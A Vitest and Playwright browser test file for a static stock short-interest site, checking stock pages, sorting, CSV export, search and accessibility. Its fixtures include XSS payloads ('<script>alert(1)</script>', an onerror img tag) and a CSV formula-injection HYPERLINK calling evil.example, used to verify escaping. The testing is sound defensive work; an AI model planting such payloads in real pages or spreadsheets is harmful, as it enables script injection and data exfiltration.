/**
 * Every stock (issue 19) in a real browser: the site built once from the fixtures (test/fixtures/site/data,
 * whose `stocks/` holds a file per company: generate.ts) and once from the same data without `stocks/`,
 * served with the production headers (site/serve.ts) to Debian Chromium. Expected figures are read off the
 * fixture's ACMR file by hand and written out formatted, as the page must show them.
 */
import { cpSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { AxeBuilder } from '@axe-core/playwright';
import type { Browser, BrowserContextOptions, Locator, Page } from 'playwright-core';
import Parser from 'rss-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { StockFileSchema, StockIndexSchema } from '../../shared/snapshot/stocks-schema.ts';
import { buildSite } from '../../site/build.ts';
import { type StaticServer, startStaticServer } from '../../site/serve.ts';
import { FIXTURE_DATA } from '../present/fixtures.ts';
import { HAS_CHROMIUM, launchChromium, type Opened, openPage } from './browser.ts';

const SITE_URL = 'https://pulse.test';

let tmp = '';
let server: StaticServer;
let bare: StaticServer;
let browser: Browser | undefined;
let buildSeconds = 0;

beforeAll(async () => {
  tmp = mkdtempSync(path.join(os.tmpdir(), 'pulse-stocks-test-'));
  const started = performance.now();
  buildSite({ outDir: path.join(tmp, 'dist'), siteUrl: SITE_URL });
  buildSeconds = (performance.now() - started) / 1000;
  // The same data without per-stock files: the site must still build, with no stock pages.
  const noStocks = path.join(tmp, 'data-without-stocks');
  cpSync(FIXTURE_DATA, noStocks, { recursive: true, filter: (src) => !src.includes(`${path.sep}stocks`) });
  buildSite({ outDir: path.join(tmp, 'bare'), siteUrl: SITE_URL, dataDir: noStocks });
  server = await startStaticServer({ root: path.join(tmp, 'dist'), port: 0 });
  bare = await startStaticServer({ root: path.join(tmp, 'bare'), port: 0 });
  if (HAS_CHROMIUM) {
    browser = await launchChromium();
  }
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await server?.close();
  await bare?.close();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

/** Opens a page of the stock site, or of `on` (./browser.ts). */
function open(pagePath: string, options: BrowserContextOptions & { on?: StaticServer } = {}): Promise<Opened> {
  const { on = server, ...contextOptions } = options;
  return openPage(browser!, `${on.url}${pagePath}`, contextOptions);
}

/** What a reader sees (hidden elements left out, whitespace collapsed). */
function rendered(locator: Locator): Promise<string> {
  // biome-ignore lint/performance/useDomNodeTextContent: Playwright's rendered text is the point of the check
  return locator.innerText();
}

/** Rendered text on one line (a flex container's items come out of innerText on lines of their own). */
async function oneLine(locator: Locator): Promise<string> {
  return (await rendered(locator)).replace(/\s+/g, ' ').trim();
}

const firstSymbols = (page: Page, n = 3) =>
  page
    .locator('table[data-table="stocks"] tbody tr:not([hidden]) th')
    .evaluateAll((cells, count) => cells.slice(0, count).map((c) => c.textContent?.trim()), n);

/** RFC 4180 rows (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('built output', () => {
  it('has a page per stock of the index, and copies the stock files byte for byte', () => {
    const index = StockIndexSchema.parse(
      JSON.parse(readFileSync(path.join(FIXTURE_DATA, 'stocks/index.json'), 'utf8')),
    );
    expect(index.stocks.length).toBe(30);
    for (const { symbol } of index.stocks) {
      expect(existsSync(path.join(tmp, 'dist', 'stock', symbol, 'index.html')), symbol).toBe(true);
      const rel = `stocks/${symbol}.json`;
      expect(
        readFileSync(path.join(tmp, 'dist', 'data', rel)).equals(readFileSync(path.join(FIXTURE_DATA, rel))),
        rel,
      ).toBe(true);
    }
    console.info(`test/site/stocks: fixture site built in ${buildSeconds.toFixed(1)} s`);
  });

  it('builds without stocks/: no stock page, no stock file, no CSV', () => {
    expect(existsSync(path.join(tmp, 'bare', 'stock'))).toBe(false);
    expect(existsSync(path.join(tmp, 'bare', 'data', 'stocks'))).toBe(false);
    expect(existsSync(path.join(tmp, 'bare', 'stocks', 'index.html'))).toBe(true);
  });
});

describe.skipIf(!HAS_CHROMIUM)('a stock page', () => {
  it('shows the fixture’s figures for ACMR, formatted', async () => {
    const { page, problems, close } = await open('/stock/ACMR/');
    expect(await oneLine(page.locator('h1'))).toBe('ACMR Acme Robotics Inc.');
    expect(await rendered(page.locator('[data-stock-meta]'))).toContain('Tier: Mega');
    expect(await rendered(page.locator('[data-stock-meta]'))).toContain('Sector: Technology');
    expect(await rendered(page.locator('[data-stock-meta]'))).toContain('As of Friday 14 June 2024');
    // windows: pnlUsd / pnlPct / avgShortInterestUsd / netNewShortingUsd of stocks/ACMR.json.
    const row = (w: string) => rendered(page.locator(`table[data-table="stock-pnl"] tr[data-window="${w}"]`));
    const expected: Record<string, string[]> = {
      '1d': ['14 Jun 2024 · 1 trading day', '▲+$937.0M', '▲+4.36%', '$21.5B', '+$3.6B'], // 936,952,487 / 4.363636
      mtd: ['3 Jun 2024 – 14 Jun 2024 · 10 trading days', '+$483.2M', '+2.30%', '$21.0B'], // 483,226,172
      '30d': ['16 May 2024 – 14 Jun 2024 · 21 trading days', '▼−$231.8M', '▼−1.15%', '$20.2B'], // −231,812,428
      ytd: ['3 Jan 2024 – 14 Jun 2024 · 114 trading days', '▼−$1.5B', '▼−8.53%', '$17.0B', '+$8.7B'], // −1,452,590,080
    };
    for (const [w, cells] of Object.entries(expected))
      for (const cell of cells) expect(await row(w), w).toContain(cell);
    expect(await page.locator('tr[data-window="ytd"] data').first().getAttribute('title')).toBe('−$1,452,590,080');
    // shortInterest: 9,169,758,207 shares, $24,116,464,084.41, 3.748748 %, 2.34615 days (FINRA volume), settled 31 May.
    expect(await rendered(page.locator('[data-si-settled]'))).toBe(
      'From FINRA’s report settled 31 May 2024, the latest in effect on 14 Jun 2024 (split-adjusted since).',
    );
    const facts = await rendered(page.locator('[data-facts]'));
    for (const f of ['9.2B shares', '$24.1B', '3.75%', '2.3', 'using FINRA’s average daily volume (all venues)']) {
      expect(facts).toContain(f);
    }
    // crowded: rank 4, score 64.9.
    expect(await rendered(page.locator('[data-crowded]'))).toContain('#4 of the 20 most crowded');
    expect(await rendered(page.locator('[data-crowded]'))).toContain('score 64.9 of 100');
    expect(await rendered(page.locator('[data-notes]'))).toBe('10 Jun 2024 · Split: split ×10.000412 (rule 3b)');
    expect(await rendered(page.locator('[data-series-summary]'))).toContain(
      'Price $24.53 on 2 Jan 2024, $2.63 on 14 Jun 2024',
    );
    expect(problems).toEqual([]);
    await close();
  });

  it('reads without JavaScript and fits 360 and 1280 px without horizontal scrolling', async () => {
    for (const width of [360, 1280]) {
      const { page, close } = await open('/stock/ACMR/', {
        javaScriptEnabled: false,
        viewport: { width, height: 800 },
      });
      expect(await page.evaluate(() => document.documentElement.scrollWidth), `${width}`).toBeLessThanOrEqual(width);
      const ytd = page.locator('table[data-table="stock-pnl"] tr[data-window="ytd"]');
      expect(await rendered(ytd)).toContain('−$1.5B');
      // Every P&L figure lies within the screen (a card per period at 360 px, not a scrolled table).
      for (const cell of await ytd.locator('td').all()) {
        const box = await cell.boundingBox();
        expect((box?.x ?? 0) + (box?.width ?? 0), `${width}`).toBeLessThanOrEqual(width);
      }
      if (width === 360) expect(await rendered(ytd.locator('td').first())).toContain('Shorts’ P&L');
      // The chart needs a script; its summary and table do not.
      expect(await page.locator('.chart-box').isVisible()).toBe(false);
      expect(await rendered(page.locator('[data-series-summary]'))).toContain('11 new FINRA reports took effect');
      await page.locator('#year summary').click();
      const settled = page.locator('table[data-table="stock-series"] tr[data-new-report]');
      expect(await settled.count()).toBe(11);
      expect(await rendered(settled.last())).toContain('settled 31 May 2024');
      // Without a script the search is a plain GET form to the list (CSP form-action 'self'), and the Stocks link remains.
      expect(await page.locator('form[data-stock-search]').isVisible()).toBe(true);
      expect(await page.locator('.site-nav a[href="/stocks/"]').isVisible()).toBe(true);
      await page.locator('#site-search').fill('acme');
      await page.locator('#site-search').press('Enter');
      await page.waitForURL(/\/stocks\/\?q=acme$/);
      expect(await page.locator('table[data-table="stocks"] tbody tr').count()).toBeGreaterThan(20);
      await close();
    }
  });

  it('draws the price and short interest chart with JavaScript', async () => {
    const { page, problems, close } = await open('/stock/ACMR/', { colorScheme: 'light' });
    const canvas = page.locator('#year canvas');
    await canvas.scrollIntoViewIfNeeded();
    await page.waitForSelector('#year canvas[data-rendered="true"]');
    const pixels = await canvas.evaluate((el) => {
      const c = el as HTMLCanvasElement;
      const data = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
      const near = (i: number, rgb: number[]) => rgb.every((v, k) => Math.abs(data[i + k]! - v) <= 8);
      let price = 0;
      let si = 0;
      for (let i = 0; i < data.length; i += 4) {
        if (data[i + 3] !== 255) continue;
        if (near(i, [0x33, 0x22, 0x88])) price++; // --series-price
        if (near(i, [0x88, 0x22, 0x55])) si++; // --series-si
      }
      return { price, si };
    });
    expect(pixels.price).toBeGreaterThan(200);
    expect(pixels.si).toBeGreaterThan(100);
    const spec = JSON.parse((await canvas.getAttribute('data-chart')) ?? '{}') as { newReports: unknown[] };
    expect(spec.newReports).toHaveLength(11);
    expect(problems).toEqual([]);
    await close();
  });

  it('links its JSON, which is the stock’s file with open CORS', async () => {
    const { page, close } = await open('/stock/BRK.B/');
    expect(await oneLine(page.locator('h1'))).toBe('BRK.B Berkshire-like Holdings Class B');
    const href = await page.locator('a[data-json-link]').getAttribute('href');
    expect(href).toBe('/data/stocks/BRK.B.json');
    await close();
    const res = await fetch(`${server.url}${href}`, { headers: { Origin: 'https://elsewhere.example' } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/json; charset=utf-8');
    expect(res.headers.get('access-control-allow-origin')).toBe('*');
    const file = StockFileSchema.parse(await res.json());
    expect(file.symbol).toBe('BRK.B');
  });

  it('says what is missing: not traded on A, pending split, quarantine, hostile names as text', async () => {
    const wave = await open('/stock/WAVE/');
    expect(await rendered(wave.page.locator('[data-stock-meta]'))).toContain('Not traded on 14 Jun 2024');
    expect(await rendered(wave.page.locator('[data-no-short-interest]'))).toBe(
      'No short interest figure on 14 Jun 2024: the stock did not trade that day.',
    );
    await wave.close();
    const dynq = await open('/stock/DYNQ/');
    expect(await rendered(dynq.page.locator('[data-note="pending-split"]'))).toContain('13 Jun 2024 · Pending split');
    await dynq.close();
    const gldw = await open('/stock/GLDW/');
    expect(await rendered(gldw.page.locator('[data-note="quarantine"]'))).toContain('3 Apr 2024 · Quarantined value');
    await gldw.close();
    const xss = await open('/stock/XSS/');
    expect(await oneLine(xss.page.locator('h1'))).toBe('XSS <script>alert(1)</script>');
    expect(await rendered(xss.page.locator('[data-stock-meta]'))).toContain('Tech & "Energy" <i>Holdings</i>');
    expect(await xss.page.evaluate(() => document.querySelectorAll('script:not([src]), main i').length)).toBe(0);
    expect(xss.problems).toEqual([]);
    await xss.close();
  });
});

describe.skipIf(!HAS_CHROMIUM)('the stocks list', () => {
  it('is sorted by YTD P&L on the server and readable without JavaScript', async () => {
    const { page, close } = await open('/stocks/', { javaScriptEnabled: false, viewport: { width: 360, height: 800 } });
    expect(await page.locator('th[aria-sort]').count()).toBe(1);
    expect(await page.locator('th[aria-sort="descending"]').getAttribute('data-sort-key')).toBe('ytdPnlUsd');
    expect(await firstSymbols(page)).toEqual(['BLTX', 'BRK.B', 'PYRA']);
    expect(await page.locator('table[data-table="stocks"] tbody tr').count()).toBe(30);
    expect(await page.locator('table[data-table="stocks"] button').count()).toBe(0);
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
    await close();
  });

  it('sorts by a column with a click and with the keyboard, aria-sort following', async () => {
    const { page, problems, close } = await open('/stocks/');
    const header = (key: string) => page.locator(`th[data-sort-key="${key}"]`);
    await header('symbol').getByRole('button', { name: 'Symbol' }).click();
    expect(await header('symbol').getAttribute('aria-sort')).toBe('ascending');
    expect(await header('ytdPnlUsd').getAttribute('aria-sort')).toBeNull();
    expect(await firstSymbols(page)).toEqual(['ABR-PD', 'ACMR', 'BLTX']);
    await header('symbol').locator('button').click();
    expect(await header('symbol').getAttribute('aria-sort')).toBe('descending');
    expect(await firstSymbols(page)).toEqual(['ZEPH', 'YLDX', 'XSS']);
    // Keyboard: Tab-reachable buttons; Enter sorts numbers biggest first, Space reverses; missing values stay last.
    await header('daysToCover').locator('button').focus();
    await page.keyboard.press('Enter');
    expect(await header('daysToCover').getAttribute('aria-sort')).toBe('descending');
    expect(await firstSymbols(page, 2)).toEqual(['LUMA', 'HVST']); // 30.98, 22.11 days
    await page.keyboard.press('Space');
    expect(await header('daysToCover').getAttribute('aria-sort')).toBe('ascending');
    expect(await firstSymbols(page, 2)).toEqual(['JUNO', 'ELMN']); // 0.52, 0.53 days
    const last = await page
      .locator('table[data-table="stocks"] tbody tr th')
      .evaluateAll((c) => c.slice(-2).map((x) => x.textContent?.trim()));
    expect(last.sort()).toEqual(['EQTN', 'WAVE']); // no days to cover
    expect(await rendered(page.locator('[data-sort-status]'))).toBe('Sorted by Days to cover, ascending.');
    expect(await page.locator('th[aria-sort]').count()).toBe(1);
    expect(problems).toEqual([]);
    await close();
  });

  it('downloads a CSV of the same table: header, quoted hostile name, no formula injection', async () => {
    const { page, close } = await open('/stocks/', { acceptDownloads: true });
    const [download] = await Promise.all([page.waitForEvent('download'), page.locator('a[data-csv-link]').click()]);
    expect(download.suggestedFilename()).toBe('short-pulse-stocks.csv');
    const text = readFileSync((await download.path())!, 'utf8');
    await close();
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([
      'Symbol',
      'Name',
      'Tier',
      'Sector',
      'Shorts YTD P&L (USD)',
      'Shorts YTD P&L (% of avg. short interest)',
      'Short interest (USD)',
      'Short interest (% of shares outstanding)',
      'Days to cover',
    ]);
    expect(rows.length).toBe(31);
    expect(rows.slice(1, 4).map((r) => r[0])).toEqual(['BLTX', 'BRK.B', 'PYRA']);
    expect(text).toContain(
      '"EQTN","\'=HYPERLINK(""https://evil.example/?""&A1,""Click, here"")","Nano","Finance",109693,',
    );
    const acmr = rows.find((r) => r[0] === 'ACMR')!;
    expect(acmr).toEqual([
      'ACMR',
      'Acme Robotics Inc.',
      'Mega',
      'Technology',
      '-1452590080',
      '-8.532068',
      '24116464084.41',
      '3.748748',
      '2.34615',
    ]);
    for (const row of rows.slice(1)) {
      for (const cell of row.slice(0, 4)) expect(cell, row[0]).not.toMatch(/^[=+\-@\t\r]/);
      for (const cell of row.slice(4)) expect(cell === '' || Number.isFinite(Number(cell)), row[0]).toBe(true);
    }
  });

  it('filters by ?q= (the search without choosing a stock)', async () => {
    const { page, problems, close } = await open('/stocks/?q=ion');
    expect(await firstSymbols(page, 10)).toEqual(['IONX', 'TRAX']); // symbol IONX…, name “Traxion Rail”
    expect(await rendered(page.locator('[data-filter-status]'))).toBe('2 stocks match “ion”. Show every stock');
    expect(await page.locator('#site-search').inputValue()).toBe('ion');
    await close();
    const none = await open('/stocks/?q=zzzz');
    expect(await rendered(none.page.locator('[data-filter-status]'))).toBe('No stock matches “zzzz”. Show every stock');
    await none.close();
    expect(problems).toEqual([]);
  });
});

describe.skipIf(!HAS_CHROMIUM)('the search in the header', () => {
  it('loads nothing until used, then suggests (symbol first), and Enter opens the stock', async () => {
    const { page, problems, close } = await open('/');
    const loaded = () =>
      page.evaluate(() =>
        performance
          .getEntriesByType('resource')
          .map((r) => r.name)
          .filter((n) => /search|stocks\/index\.json/.test(n)),
      );
    expect(await loaded()).toEqual([]);
    const input = page.getByRole('combobox', { name: 'Find a stock by ticker or name' });
    await input.click();
    await input.pressSequentially('acm');
    const list = page.getByRole('listbox', { name: 'Matching stocks' });
    await list.waitFor();
    expect(await input.getAttribute('aria-expanded')).toBe('true');
    const options = list.getByRole('option');
    expect(await oneLine(options.first())).toBe('ACMR Acme Robotics Inc.');
    expect((await loaded()).some((n) => n.endsWith('/data/stocks/index.json'))).toBe(true);
    await page.keyboard.press('ArrowDown');
    expect(await input.getAttribute('aria-activedescendant')).toBe(await options.first().getAttribute('id'));
    expect(await options.first().getAttribute('aria-selected')).toBe('true');
    await page.keyboard.press('Escape');
    expect(await list.isVisible()).toBe(false);
    expect(await input.getAttribute('aria-expanded')).toBe('false');
    await input.pressSequentially('r');
    await page.keyboard.press('Enter');
    await page.waitForURL(`${server.url}/stock/ACMR/`);
    expect(await oneLine(page.locator('h1'))).toBe('ACMR Acme Robotics Inc.');
    expect(problems).toEqual([]);
    await close();
  });

  it('finds by name, opens a clicked option, and sends an unknown query to the list', async () => {
    const { page, problems, close } = await open('/archive/');
    const input = page.locator('#site-search');
    await input.fill('berkshire');
    const option = page.getByRole('option', { name: /BRK\.B/ });
    await option.click();
    await page.waitForURL(`${server.url}/stock/BRK.B/`);
    const again = page.locator('#site-search');
    await again.fill('no such company');
    await page.getByRole('button', { name: 'Find' }).click();
    await page.waitForURL(`${server.url}/stocks/?q=no%20such%20company`);
    expect(await rendered(page.locator('[data-filter-status]'))).toContain('No stock matches “no such company”.');
    expect(problems).toEqual([]);
    await close();
  });
});

describe.skipIf(!HAS_CHROMIUM)('links to stock pages', () => {
  it('from the home page’s tables, for the stocks that have a page', async () => {
    const { page, problems, close } = await open('/');
    // Crowded: 20 stocks, one with a hostile symbol that has no page (plain text).
    expect(await page.locator('table[data-table="crowded"] tbody a[href^="/stock/"]').count()).toBe(19);
    expect(await rendered(page.locator('table[data-table="crowded"]'))).toContain('"><img src=x onerror=alert(2)>');
    expect(await page.locator('table[data-table="crowded"] a[href*="img"]').count()).toBe(0);
    const winner = page.locator('.panel[data-window="ytd"] table[data-table="top-winners"] tbody tr').first();
    expect(await winner.locator('a').getAttribute('href')).toBe('/stock/XSS/');
    const adding = page.locator('.group-panel[data-group="total"] table[data-table="net-new-adding"] tbody tr').first();
    await adding.getByRole('link', { name: 'ACMR Acme Robotics Inc.' }).click();
    await page.waitForURL(`${server.url}/stock/ACMR/`);
    expect(problems).toEqual([]);
    await close();
  });

  it('from the RSS feed', async () => {
    const feed = await new Parser().parseString(await (await fetch(`${server.url}/rss.xml`)).text());
    expect(feed.items[0]!.content).toContain(
      '<a href="https://pulse.test/stock/XSS/">XSS (&lt;script&gt;alert(1)&lt;/script&gt;)</a>',
    );
  });
});

describe.skipIf(!HAS_CHROMIUM)('without per-stock data', () => {
  it('says so on the list and in the search, and links no name', async () => {
    const list = await open('/stocks/', { on: bare });
    expect(await rendered(list.page.locator('[data-no-stocks]'))).toContain('No per-stock data is published');
    expect(await list.page.locator('a[data-csv-link]').count()).toBe(0);
    await list.page.locator('#site-search').fill('acm');
    await expect
      .poll(() => rendered(list.page.locator('[data-search-status]')))
      .toBe('No per-stock data is published on this site.');
    expect(list.problems).toEqual([]);
    await list.close();
    const home = await open('/', { on: bare });
    expect(await home.page.locator('main a[href^="/stock/"]').count()).toBe(0);
    expect(await rendered(home.page.locator('table[data-table="crowded"]'))).toContain('Acme Robotics Inc.');
    await home.close();
  });
});

describe.skipIf(!HAS_CHROMIUM)('accessibility', () => {
  it.each([
    ['/stocks/', 'light'],
    ['/stock/ACMR/', 'light'],
    ['/stock/ACMR/', 'dark'],
    ['/stock/WAVE/', 'light'],
  ] as const)(
    'has no serious or critical axe-core violations on %s (%s)',
    async (p, colorScheme) => {
      const { page, problems, close } = await open(p, { colorScheme });
      if (p === '/stocks/') await page.locator('th[data-sort-key="name"] button').click();
      const result = await new AxeBuilder({ page }).analyze();
      const bad = result.violations
        .filter((v) => v.impact === 'serious' || v.impact === 'critical')
        .map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`);
      expect(bad).toEqual([]);
      expect(problems).toEqual([]);
      await close();
    },
    60_000,
  );

  it('has none with the search’s suggestions open', async () => {
    const { page, problems, close } = await open('/');
    await page.locator('#site-search').fill('a');
    await page.getByRole('listbox').waitFor();
    await page.keyboard.press('ArrowDown');
    const result = await new AxeBuilder({ page }).include('.site-header').analyze();
    expect(result.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => v.id)).toEqual(
      [],
    );
    expect(problems).toEqual([]);
    await close();
  });
});
